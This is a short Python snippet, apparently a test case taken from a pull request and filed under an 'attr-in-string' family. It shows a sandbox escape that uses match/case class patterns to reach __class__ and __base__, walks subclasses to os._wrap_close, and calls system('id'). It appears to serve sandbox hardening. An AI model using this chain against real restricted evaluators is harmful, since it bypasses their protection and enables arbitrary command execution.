# Source: https://github.com/mcp-use/mcp-use/pull/1735 (match/case class patterns: case list(__class__=x))
# Family: attr-in-string
# What: a match class pattern does getattr(subject, '__class__') from a keyword attribute
match []:
    case list(__class__=cls):
        match cls:
            case type(__base__=base):
                subs = base.__subclasses__()
                print([c for c in subs if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("id"))
